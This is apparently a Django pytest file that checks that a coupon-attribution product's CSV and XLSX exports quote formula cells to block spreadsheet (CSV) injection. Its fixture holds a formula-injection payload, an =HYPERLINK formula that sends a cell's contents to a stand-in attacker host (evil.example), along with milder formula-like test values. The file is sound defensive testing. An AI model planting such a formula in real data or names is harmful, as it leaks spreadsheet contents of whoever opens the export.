"""Every CSV and XLSX the product writes neutralises formula cells (OWASP CSV injection):
a store, campaign or merchant named ``=HYPERLINK(...)`` stays text in a publisher's sheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from attribution import services as attribution_services
from attribution.reports import Dimension, ReportFilters, Side
from backend.api import ids
from backend.audience.models import Fan
from backend.merchants.models import Store
from backend.outbox import services as outbox_services
from backend.outbox.models import OutboxEvent
from tests.factories import make_api_key, pos_setup, redeem

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def hostile_world():
    setup = pos_setup(coupons=2, name="-2+3 campaign")
    Store.objects.filter(pk=setup.store.pk).update(name=HOSTILE)
    for coupon in setup.coupons:
        redeem(setup, coupon.code)
    outbox_services.process_events(list(OutboxEvent.objects.values_list("pk", flat=True)))
    return setup


def test_report_exports_quote_formula_cells(hostile_world, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    merchant = hostile_world.merchant
    export = attribution_services.export_create(
        merchant=merchant,
        requested_by=None,
        dimension=Dimension.STORE,
        filters=ReportFilters(side=Side.ISSUER),
    )
    done = attribution_services.export_run(export_id=export.pk)
    assert done.status == "succeeded", done.error
    rows = list(csv.DictReader((tmp_path / done.files["csv"]).open()))
    labels = [r["label"] for r in rows if r["is_total"] == "False"]
    assert labels == ["'" + HOSTILE]
    sheet = load_workbook(tmp_path / done.files["xlsx"]).active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("label")] for row in sheet.iter_rows(min_row=2) if row[0].value is False]
    assert [(c.value, c.data_type) for c in cells] == [("'" + HOSTILE, "s")]  # text, not a formula ("f")
    # numbers stay numbers
    redeemed = [row[header.index("redeemed")].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(v, int) for v in redeemed)


def test_the_report_command_csv_quotes_formula_cells(hostile_world):
    out = io.StringIO()
    call_command(
        "attribution_report",
        "--merchant",
        hostile_world.merchant.slug,
        "--by",
        "campaign",
        "--csv",
        "-",
        stdout=out,
    )
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["label"] == "'-2+3 campaign"


def test_the_codes_csv_quotes_formula_cells(client, hostile_world):
    placement = hostile_world.placement
    coupon = hostile_world.coupons[0]
    Fan.objects.filter(pk=coupon.fan_id).update(fan_key="@SUM(1+1)")
    key = make_api_key(placement.publisher, "admin")
    response = client.get(
        f"/coupons/placements/{ids.encode('Placement', placement.pk)}/codes.csv",
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(body))}
    assert rows[coupon.code]["fan_key"] == "'@SUM(1+1)"
